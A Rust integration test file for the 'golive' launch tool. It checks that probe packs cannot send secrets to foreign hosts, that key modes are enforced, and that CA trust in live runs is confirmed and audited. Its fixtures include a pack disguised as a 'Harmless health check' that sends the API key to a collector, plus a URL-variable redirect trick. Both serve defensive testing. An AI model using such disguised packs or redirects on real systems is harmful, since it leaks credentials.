//! Probe safety: secrets go only to the launch's own origins, the key's mode is checked on every run, a live run
//! that held its sensitive steps back is incomplete, and extra CA roots are trusted in live only when confirmed.
//! Each test runs against real loopback servers and would fail if its safeguard were removed.

mod common;

use std::process::{Command, Output};
use std::sync::Arc;

use common::probes::{self, Collector, LIVE_KEY, SANDBOX_KEY, WEBHOOK_SECRET};
use golive::probe::Outcome;
use golive::workspace::{PackChoice, ProbeRunRequest};
use golive::{Environment, Workspace};

fn workspace(dir: &tempfile::TempDir) -> Workspace {
    Workspace::open(&dir.path().join("golive.sqlite"), "launch_mgr").unwrap()
}

fn golive(db: &std::path::Path, envs: &[(&str, &str)], args: &[&str]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_golive"));
    cmd.args(args)
        .env("GOLIVE_DB", db)
        .env("GOLIVE_ACTOR", "ci_pipeline")
        .env_remove("GOLIVE_SANDBOX_API_KEY")
        .env_remove("GOLIVE_LIVE_API_KEY")
        .env_remove("GOLIVE_SANDBOX_WEBHOOK_SECRET")
        .env_remove("GOLIVE_LIVE_WEBHOOK_SECRET");
    for (k, v) in envs {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// The 20-line pack from the issue: a health check that sends the API key to a collector of its own.
fn exfiltrating_pack(url: &str) -> String {
    format!(
        "id = \"exfil\"\nversion = 1\nname = \"Harmless health check\"\nsecrets = [\"api_key\"]\n\n\
         [[steps]]\nid = \"health\"\ntitle = \"Health\"\nkind = \"http\"\n\
         [steps.request]\nmethod = \"GET\"\nurl = \"{{{{api}}}}/v1/discovery\"\n\
         headers = {{ authorization = \"Bearer {{{{secret.api_key}}}}\" }}\n[[steps.expect]]\nstatus = 200\n\n\
         [[steps]]\nid = \"collect\"\ntitle = \"Collect\"\nkind = \"http\"\n\
         [steps.request]\nmethod = \"GET\"\nurl = \"{url}/collect\"\n\
         headers = {{ authorization = \"Bearer {{{{secret.api_key}}}}\" }}\n[[steps.expect]]\nstatus = 200\n"
    )
}

/// A pack whose only URL is `{{api}}{{var.path}}`: validation cannot tell where a launch's value sends it.
const VARIABLE_PATH_PACK: &str = "id = \"var-path\"\nversion = 1\nname = \"Variable path\"\n\
secrets = [\"api_key\"]\n[vars]\npath = \"/v1/discovery\"\n\n[[steps]]\nid = \"read\"\ntitle = \"Read\"\n\
kind = \"http\"\n[steps.request]\nmethod = \"GET\"\nurl = \"{{api}}{{var.path}}\"\n\
headers = { authorization = \"Bearer {{secret.api_key}}\" }\n[[steps.expect]]\nstatus = 200\n";

fn cli_launch(db: &std::path::Path, servers: &probes::Servers) -> String {
    let out = golive(
        db,
        &[],
        &[
            "launch",
            "new",
            "--name",
            "Safety",
            "--partner",
            "partner_123",
            "--surface",
            "0pools",
            "--template",
            "0pools-sandbox-to-production",
            "--sandbox-api",
            &servers.provider.url,
            "--sandbox-webhook",
            &servers.receiver.url,
            "--json",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["summary"]["id"].as_str().unwrap().to_string()
}

#[test]
fn a_pack_sending_the_key_to_another_host_is_refused_at_validate_and_at_run_with_nothing_received()
{
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("cli.sqlite");
    let collector = Collector::start();
    let servers = probes::servers(Environment::Sandbox, 90);
    let launch = cli_launch(&db, &servers);
    let pack = dir.path().join("exfil.toml");
    std::fs::write(&pack, exfiltrating_pack(&collector.url)).unwrap();
    let file = pack.to_str().unwrap();
    let keys = [
        ("GOLIVE_SANDBOX_API_KEY", SANDBOX_KEY),
        ("GOLIVE_SANDBOX_WEBHOOK_SECRET", WEBHOOK_SECRET),
    ];

    // validate can tell (a literal URL): refused with the step, the origin and the place, never the key.
    let out = golive(&db, &keys, &["probe", "validate", file]);
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(err.starts_with("error[probe_pack_invalid]"), "{err}");
    assert!(
        err.contains("step 'collect' sends secret api_key to ")
            && err.contains(&collector.url)
            && err.contains("not the launch's API or webhook origin"),
        "{err}"
    );
    assert!(err.contains("exfil.toml:23:8:"), "{err}");

    // run refuses too, before sending anything, even the step that would have been harmless.
    let out = golive(
        &db,
        &keys,
        &[
            "probe",
            "run",
            &launch,
            "--env",
            "sandbox",
            "--pack-file",
            file,
        ],
    );
    assert!(!out.status.success());
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert!(all.contains("step 'collect'"), "{all}");
    assert!(!all.contains(SANDBOX_KEY), "{all}");
    assert!(servers.provider.requests().is_empty());
    assert_eq!(collector.connections(), 0, "{}", collector.received());

    // A launch value that moves a harmless-looking URL to another host is caught when the run is prepared.
    let pack = dir.path().join("var-path.toml");
    std::fs::write(&pack, VARIABLE_PATH_PACK).unwrap();
    let file = pack.to_str().unwrap();
    assert!(golive(&db, &keys, &["probe", "validate", file])
        .status
        .success());
    let moved = format!(
        "path=@{}/collect",
        collector.url.trim_start_matches("http://")
    );
    let out = golive(
        &db,
        &keys,
        &["probe", "set", &launch, "--pack-file", file, &moved],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = golive(
        &db,
        &keys,
        &[
            "probe",
            "run",
            &launch,
            "--env",
            "sandbox",
            "--pack-file",
            file,
        ],
    );
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(err.starts_with("error[probe_secret_destination]"), "{err}");
    assert!(
        err.contains("step 'read' sends secret api_key to ") && err.contains(&collector.url),
        "{err}"
    );
    assert!(!err.contains(SANDBOX_KEY), "{err}");
    assert_eq!(collector.connections(), 0, "{}", collector.received());
    assert!(servers.provider.requests().is_empty());
}

#[test]
fn the_desktop_pack_file_path_goes_through_the_same_check() {
    let dir = tempfile::tempdir().unwrap();
    let mut ws = workspace(&dir);
    let collector = Collector::start();
    let servers = probes::servers(Environment::Sandbox, 90);
    let launch = ws
        .create_launch(&probes::launch_for("Desktop", Some(&servers), None))
        .unwrap()
        .summary
        .id;
    let pack = dir.path().join("var-path.toml");
    std::fs::write(&pack, VARIABLE_PATH_PACK).unwrap();
    let moved = format!("@{}/collect", collector.url.trim_start_matches("http://"));
    ws.set_probe_var(&launch, PackChoice::File(&pack), "path", &moved)
        .unwrap();
    let request = ProbeRunRequest {
        vars: None,
        pack_id: None,
        pack_file: Some(pack.display().to_string()),
        ..probes::request(&launch, Environment::Sandbox, &[])
    };
    let err = ws
        .prepare_probe_run(&request, probes::secrets(SANDBOX_KEY))
        .err()
        .expect("refused");
    assert_eq!(err.code(), "probe_secret_destination", "{err}");
    assert!(err.to_string().contains("step 'read'"), "{err}");
    let err = ws
        .run_probes(&request, probes::secrets(SANDBOX_KEY), Arc::new(|_| {}))
        .unwrap_err();
    assert_eq!(err.code(), "probe_secret_destination", "{err}");
    assert_eq!(collector.connections(), 0);
    assert!(servers.provider.requests().is_empty());
    // Nothing was recorded either: there was no run.
    assert!(ws.probe_runs(&launch).unwrap().is_empty());
}

fn ca_file(dir: &tempfile::TempDir, servers: &probes::Servers) -> String {
    let path = dir.path().join("test-ca.pem");
    std::fs::write(&path, &servers.ca.as_ref().unwrap().ca_pem).unwrap();
    path.display().to_string()
}

/// A live request for the variable-path pack (no key_mode step of its own), trusting the test CA.
fn live_pack_file_request(
    dir: &tempfile::TempDir,
    launch: &str,
    servers: &probes::Servers,
) -> ProbeRunRequest {
    let pack = dir.path().join("var-path.toml");
    std::fs::write(&pack, VARIABLE_PATH_PACK).unwrap();
    ProbeRunRequest {
        vars: None,
        pack_id: None,
        pack_file: Some(pack.display().to_string()),
        ca_files: vec![ca_file(dir, servers)],
        trust_ca_in_live: Some(true),
        ..probes::request(launch, Environment::Live, &[])
    }
}

#[test]
fn every_live_run_refuses_a_key_that_does_not_say_live_even_without_a_key_mode_step() {
    let dir = tempfile::tempdir().unwrap();
    let mut ws = workspace(&dir);
    let servers = probes::servers(Environment::Live, 90);
    let launch = ws
        .create_launch(&probes::launch_for("Keys", None, Some(&servers)))
        .unwrap()
        .summary
        .id;
    let request = live_pack_file_request(&dir, &launch, &servers);
    for (key, says) in [
        (
            "FAKEprobe0unknown0key000000000042",
            "neither a test nor a live key",
        ),
        (SANDBOX_KEY, "a test key in a live run"),
    ] {
        let run = probes::run(&mut ws, &request, probes::secrets(key));
        assert_eq!(run.outcome, Outcome::Fail, "{}", probes::outline(&run));
        let preflight = probes::step(&run, "key-mode-preflight");
        assert!(
            preflight.reason.as_deref().unwrap().contains(says),
            "{preflight:?}"
        );
        assert_eq!(probes::step(&run, "read").outcome, Outcome::Skipped);
        assert!(run.evidence.is_empty());
    }
    assert!(
        servers.provider.requests().is_empty(),
        "{:?}",
        servers.provider.requests()
    );
    // A key that says live is sent.
    let run = probes::run(&mut ws, &request, probes::secrets(LIVE_KEY));
    assert_eq!(run.outcome, Outcome::Pass, "{}", probes::outline(&run));
    assert_eq!(servers.provider.requests().len(), 1);
}

#[test]
fn a_sandbox_run_refuses_a_live_key_without_a_key_mode_step() {
    let dir = tempfile::tempdir().unwrap();
    let mut ws = workspace(&dir);
    let servers = probes::servers(Environment::Sandbox, 90);
    let launch = ws
        .create_launch(&probes::launch_for("Live key", Some(&servers), None))
        .unwrap()
        .summary
        .id;
    let pack = dir.path().join("var-path.toml");
    std::fs::write(&pack, VARIABLE_PATH_PACK).unwrap();
    let request = ProbeRunRequest {
        vars: None,
        pack_id: None,
        pack_file: Some(pack.display().to_string()),
        ..probes::request(&launch, Environment::Sandbox, &[])
    };
    let run = probes::run(&mut ws, &request, probes::secrets(LIVE_KEY));
    assert_eq!(run.outcome, Outcome::Fail, "{}", probes::outline(&run));
    assert!(probes::step(&run, "key-mode-preflight")
        .reason
        .as_deref()
        .unwrap()
        .contains("a live key in a sandbox run"));
    assert!(servers.provider.requests().is_empty());
}

fn cli_live_launch(db: &std::path::Path, servers: &probes::Servers) -> String {
    let out = golive(
        db,
        &[],
        &[
            "launch",
            "new",
            "--name",
            "Live safety",
            "--partner",
            "partner_123",
            "--surface",
            "0pools",
            "--template",
            "0pools-sandbox-to-production",
            "--live-api",
            &servers.provider.url,
            "--live-webhook",
            &servers.receiver.url,
            "--json",
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    v["summary"]["id"].as_str().unwrap().to_string()
}

#[test]
fn extra_ca_roots_need_a_recorded_confirmation_in_live_and_a_held_back_live_run_is_incomplete() {
    use sha2::Digest;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("cli.sqlite");
    let servers = probes::servers(Environment::Live, 90);
    let launch = cli_live_launch(&db, &servers);
    let ca = ca_file(&dir, &servers);
    let keys = [
        ("GOLIVE_LIVE_API_KEY", LIVE_KEY),
        ("GOLIVE_LIVE_WEBHOOK_SECRET", WEBHOOK_SECRET),
    ];
    let run = |extra: &[&str]| {
        let args = [
            &["probe", "run", &launch, "--env", "live", "--ca-cert", &ca][..],
            extra,
        ]
        .concat();
        golive(&db, &keys, &args)
    };

    // Without the confirmation the CA is not trusted for live, and nothing is sent.
    let out = run(&[]);
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(err.starts_with("error[ca_not_trusted_in_live]"), "{err}");
    assert!(err.contains("--trust-ca-in-live"), "{err}");
    assert!(servers.provider.requests().is_empty());

    // With it, the run goes ahead and the trust is in the audit log with the file's SHA-256. The small order is
    // held back (no --confirm-sensitive), so the run is incomplete: exit 1, no evidence.
    let out = run(&["--trust-ca-in-live", "--json"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["outcome"], "skipped", "{report}");
    let why = report["incomplete"].as_str().unwrap();
    assert!(why.contains("live-order-quote"), "{why}");
    assert_eq!(report["evidence"].as_array().unwrap().len(), 0, "{report}");
    assert!(report["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| !s["sensitive"].as_bool().unwrap())
        .all(|s| s["outcome"] == "pass"));
    let junit = dir.path().join("live.xml");
    let human = run(&["--trust-ca-in-live", "--junit", junit.to_str().unwrap()]);
    assert_eq!(human.status.code(), Some(1));
    let xml = std::fs::read_to_string(&junit).unwrap();
    assert!(
        xml.contains("run-complete") && xml.contains("<failure"),
        "{xml}"
    );
    assert!(
        text(&human.stdout).contains("INCOMPLETE"),
        "{}",
        text(&human.stdout)
    );

    let audit = golive(&db, &[], &["audit", "list", "--launch", &launch, "--json"]);
    let audit: serde_json::Value = serde_json::from_slice(&audit.stdout).unwrap();
    let trusted: Vec<&serde_json::Value> = audit
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "probe.ca_trusted_in_live")
        .collect();
    assert_eq!(trusted.len(), 2, "{audit}");
    let sha = hex::encode(sha2::Sha256::digest(std::fs::read(&ca).unwrap()));
    assert_eq!(trusted[0]["details"]["ca_files"][0]["sha256"], sha.as_str());

    // The same CA in a sandbox run needs no confirmation and records none; a CA file is read with a cap.
    let big = dir.path().join("big.pem");
    std::fs::write(&big, vec![b'A'; 1024 * 1024 + 1]).unwrap();
    let out = golive(
        &db,
        &keys,
        &[
            "probe",
            "run",
            &launch,
            "--env",
            "sandbox",
            "--ca-cert",
            big.to_str().unwrap(),
        ],
    );
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(err.starts_with("error[file_too_large]"), "{err}");
}
